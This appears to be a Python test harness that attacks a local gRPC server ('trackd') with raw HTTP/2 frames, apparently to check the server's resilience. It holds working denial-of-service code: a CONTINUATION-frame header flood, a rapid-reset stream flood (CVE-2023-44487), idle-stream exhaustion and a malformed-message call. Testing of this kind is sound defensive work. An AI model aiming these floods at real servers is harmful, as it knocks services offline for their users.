#!/usr/bin/python3
"""HTTP/2 abuse of trackd's gRPC port, frame by frame (python3-h2's framing).

Each mode does what a hostile or broken client does to an HTTP/2 server and
prints one line of JSON saying what the server answered:

  continuation PORT MIB   one header block never ended: HEADERS then
                          CONTINUATION frames of junk headers, MIB MiB of them
  continuation_held PORT MIB
                          the same, then the connection held open, answering
                          nothing, until the server closes it (or 30 s)
  rapid_reset PORT N [METHOD]
                          N streams of TrackService/METHOD (GetLatest)
                          opened and reset at once (CVE-2023-44487)
  idle_streams PORT N     N StreamPoints calls opened and left waiting; holds
                          them until stdin closes
  bad_message PORT        an AddPoints request whose bytes are no protobuf
  health PORT             a well-formed grpc.health.v1.Health/Check call
  probe PORT              a normal client: GetLatest calls one after another
                          on one connection until stdin closes, then each
                          call's latency (null: no answer within 2 s)

The server's own memory and threads are read by the caller (/proc).
"""
import json
import socket
import sys

import hpack
import threading
import time

from hyperframe.frame import (ContinuationFrame, DataFrame, Frame,
                              GoAwayFrame, HeadersFrame, PingFrame,
                              RstStreamFrame, SettingsFrame, WindowUpdateFrame)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def connect(port):
    sock = socket.create_connection(("127.0.0.1", port), timeout=10)
    sock.sendall(PREFACE + SettingsFrame(0).serialize())
    return sock


def headers_frame(stream, path):
    """A whole request header block (END_HEADERS) on `stream`."""
    frame = HeadersFrame(stream, request_headers(path))
    frame.flags.add("END_HEADERS")
    return frame


def request_headers(path):
    return hpack.Encoder().encode([
        (":method", "POST"), (":scheme", "http"), (":path", path),
        (":authority", "localhost"), ("content-type", "application/grpc"),
        ("te", "trailers")])


def read_frames(sock, until_closed_s):
    """Frames the server sends until it closes or goes quiet."""
    sock.settimeout(until_closed_s)
    data = b""
    try:
        while True:
            chunk = sock.recv(65536)
            if not chunk:
                break
            data += chunk
    except (socket.timeout, ConnectionResetError):
        pass
    frames = []
    while len(data) >= 9:
        frame, length = Frame.parse_frame_header(memoryview(data[:9]))
        if len(data) < 9 + length:
            break
        frame.parse_body(memoryview(data[9:9 + length]))
        frames.append(frame)
        data = data[9 + length:]
    return frames


def describe(frames):
    """What the server answered: GOAWAY, RST_STREAM codes, and how many
    streams ended with each grpc-status (and the last message of each)."""
    out = {"statuses": {}, "messages": {}}
    decoder = hpack.Decoder()
    decoder.max_allowed_table_size = 1 << 20
    for f in frames:
        if isinstance(f, GoAwayFrame):
            out["goaway"] = f.error_code
        if isinstance(f, RstStreamFrame):
            out["rst_stream"] = f.error_code
        if isinstance(f, HeadersFrame):
            fields = dict(decoder.decode(f.data))
            status = fields.get("grpc-status")
            if status is not None:
                out["statuses"][status] = out["statuses"].get(status, 0) + 1
                out["messages"][status] = fields.get("grpc-message", "")
    return out


def send_unended_block(sock, mib):
    """HEADERS without END_HEADERS, then CONTINUATION frames, each under
    any header limit, until `mib` MiB are sent or the server closes."""
    start = HeadersFrame(1, request_headers("/trackdb.v1.TrackService/AddPoint"))
    start.flags.discard("END_HEADERS")
    sent = 0
    try:
        sock.sendall(start.serialize())
        # Literal header fields never indexed (no decoder state): ~16 KiB.
        junk = hpack.Encoder().encode(
            [hpack.NeverIndexedHeaderTuple("x-pad", "a" * 16000)],
            huffman=False)
        while sent < mib << 20:
            sock.sendall(ContinuationFrame(1, junk).serialize())
            sent += len(junk)
    except (BrokenPipeError, ConnectionResetError):
        pass
    return sent


def continuation(port, mib):
    sock = connect(port)
    sent = send_unended_block(sock, mib)
    result = describe(read_frames(sock, 2))
    result["sent_bytes"] = sent
    sock.close()
    return result


def continuation_held(port, mib):
    """The block, then the connection kept open, answering nothing (not the
    server's PINGs either), until the server closes it or 30 s pass."""
    sock = connect(port)
    start = time.monotonic()
    sent = send_unended_block(sock, mib)
    result = describe(read_frames(sock, 30))
    closed = time.monotonic() - start
    result["sent_bytes"] = sent
    result["closed_after_s"] = round(closed, 2) if closed < 30 else None
    sock.close()
    return result


def rapid_reset(port, n, method="GetLatest"):
    sock = connect(port)
    sent = 0
    try:
        for i in range(n):
            stream = 2 * i + 1
            frames = headers_frame(
                stream, "/trackdb.v1.TrackService/" + method).serialize()
            frames += RstStreamFrame(stream, 8).serialize()  # CANCEL
            sock.sendall(frames)
            sent += 1
    except (BrokenPipeError, ConnectionResetError):
        pass
    result = describe(read_frames(sock, 2))
    result["streams_sent"] = sent
    sock.close()
    return result


def acknowledge_settings(sock):
    """Waits for the server's SETTINGS and acknowledges them, as every real
    client does: the server's stream limit applies from then on."""
    data = b""
    while True:
        data += sock.recv(65536)
        while len(data) >= 9:
            frame, length = Frame.parse_frame_header(memoryview(data[:9]))
            if len(data) < 9 + length:
                break
            data = data[9 + length:]
            if isinstance(frame, SettingsFrame) and "ACK" not in frame.flags:
                sock.sendall(SettingsFrame(0, flags=["ACK"]).serialize())
                return


def answer_pings(sock, frames, stop):
    """Reads the server's frames into `frames`, acknowledging its PINGs as
    a live client does (so keepalive does not close it), until `stop`."""
    data = b""
    sock.settimeout(0.2)
    while not stop.is_set():
        try:
            chunk = sock.recv(65536)
        except socket.timeout:
            continue
        except OSError:
            return
        if not chunk:
            return
        data += chunk
        while len(data) >= 9:
            frame, length = Frame.parse_frame_header(memoryview(data[:9]))
            if len(data) < 9 + length:
                break
            frame.parse_body(memoryview(data[9:9 + length]))
            data = data[9 + length:]
            frames.append(frame)
            if isinstance(frame, PingFrame) and "ACK" not in frame.flags:
                sock.sendall(PingFrame(0, frame.opaque_data,
                                       flags=["ACK"]).serialize())


def idle_streams(port, n):
    sock = connect(port)
    acknowledge_settings(sock)
    frames, stop = [], threading.Event()
    reader = threading.Thread(target=answer_pings, args=(sock, frames, stop))
    reader.start()
    for i in range(n):
        sock.sendall(headers_frame(
            2 * i + 1, "/trackdb.v1.TrackService/StreamPoints").serialize())
    time.sleep(2)
    seen = list(frames)
    refused = sum(1 for f in seen
                  if isinstance(f, RstStreamFrame) and f.error_code == 7)
    answered = describe(seen)
    print(json.dumps({"opened": n, "refused_stream": refused,
                      "answered": answered}), flush=True)
    sys.stdin.read()
    stop.set()
    reader.join()
    sock.close()
    return None


def unary_call(port, path, payload):
    """One unary call with `payload` as its message; what came back."""
    sock = connect(port)
    headers = headers_frame(1, path)
    message = b"\x00" + len(payload).to_bytes(4, "big") + payload
    body = DataFrame(1, message)
    body.flags.add("END_STREAM")
    sock.sendall(headers.serialize() + body.serialize())
    result = describe(read_frames(sock, 2))
    sock.close()
    return result


def bad_message(port):
    # Field 1, wire type 7: no such wire type, so no protobuf decodes it.
    return unary_call(port, "/trackdb.v1.TrackService/AddPoints", b"\x0f\x01")


def health(port):
    return unary_call(port, "/grpc.health.v1.Health/Check", b"")


class ProbeConnection:
    """One client connection as a real client keeps it: it acknowledges the
    server's SETTINGS and PINGs and opens its receive window wide, so that
    only the server decides how fast calls are answered."""

    def __init__(self, port):
        self.sock = connect(port)
        # Without it a request waits behind the last WINDOW_UPDATE's ACK,
        # which the server delays by 40 ms.
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.sock.sendall(WindowUpdateFrame(0, (1 << 30)).serialize())
        self.decoder = hpack.Decoder()
        self.data = b""
        self.stream = -1

    def call(self, path, payload, deadline):
        """The call's grpc-status if its trailers came before `deadline`,
        else None."""
        self.stream += 2
        message = b"\x00" + len(payload).to_bytes(4, "big") + payload
        body = DataFrame(self.stream, message)
        body.flags.add("END_STREAM")
        self.sock.sendall(headers_frame(self.stream, path).serialize() +
                          body.serialize())
        while time.monotonic() < deadline:
            for frame in self._frames(deadline):
                if frame.stream_id == self.stream and \
                        "END_STREAM" in frame.flags:
                    return getattr(frame, "fields", {}).get("grpc-status",
                                                            "no status")
        return None

    def _frames(self, deadline):
        self.sock.settimeout(max(deadline - time.monotonic(), 0.001))
        try:
            chunk = self.sock.recv(65536)
        except socket.timeout:
            return []
        if not chunk:
            raise ConnectionResetError("server closed the connection")
        self.data += chunk
        frames = []
        while len(self.data) >= 9:
            frame, length = Frame.parse_frame_header(
                memoryview(self.data[:9]))
            if len(self.data) < 9 + length:
                break
            frame.parse_body(memoryview(self.data[9:9 + length]))
            self.data = self.data[9 + length:]
            self._answer(frame)
            frames.append(frame)
        return frames

    def _answer(self, frame):
        if isinstance(frame, HeadersFrame):
            frame.fields = dict(self.decoder.decode(frame.data))
        elif isinstance(frame, SettingsFrame) and "ACK" not in frame.flags:
            self.sock.sendall(SettingsFrame(0, flags=["ACK"]).serialize())
        elif isinstance(frame, PingFrame) and "ACK" not in frame.flags:
            self.sock.sendall(
                PingFrame(0, frame.opaque_data, flags=["ACK"]).serialize())
        elif isinstance(frame, DataFrame) and frame.flow_controlled_length:
            self.sock.sendall(WindowUpdateFrame(
                0, frame.flow_controlled_length).serialize())


def probe(port):
    """GetLatest calls, each after the last was answered, until stdin
    closes: each one's latency and grpc-status. A call unanswered in 2 s
    counts as None and the next one goes on a new connection, as a client
    whose deadline passed would retry."""
    done = threading.Event()
    threading.Thread(target=lambda: (sys.stdin.read(), done.set()),
                     daemon=True).start()
    # GetLatestRequest{collection: "c", entity_ids: ["e"]}.
    request = b"\x0a\x01c\x12\x01e"
    latencies, statuses = [], {}
    conn = None
    while not done.is_set():
        start = time.monotonic()
        try:
            conn = conn or ProbeConnection(port)
            status = conn.call("/trackdb.v1.TrackService/GetLatest",
                               request, start + 2)
        except OSError:
            status = None
        took = time.monotonic() - start
        latencies.append(took if status is not None and took < 2 else None)
        statuses[status] = statuses.get(status, 0) + 1
        if latencies[-1] is None:
            conn = None
        time.sleep(0.01)
    return {"latencies": latencies, "statuses": statuses}


def main():
    mode, port = sys.argv[1], int(sys.argv[2])
    arg = int(sys.argv[3]) if len(sys.argv) > 3 else 0
    result = {"continuation": continuation,
              "continuation_held": continuation_held,
              "rapid_reset": rapid_reset,
              "idle_streams": idle_streams}.get(mode)
    if mode == "probe":
        out = probe(port)
    elif mode == "rapid_reset" and len(sys.argv) > 4:
        out = rapid_reset(port, arg, sys.argv[4])
    elif mode in ("bad_message", "health"):
        out = {"bad_message": bad_message, "health": health}[mode](port)
    elif result is None:
        sys.exit("unknown mode " + mode)
    else:
        out = result(port, arg)
    if out is not None:
        print(json.dumps(out), flush=True)


if __name__ == "__main__":
    main()
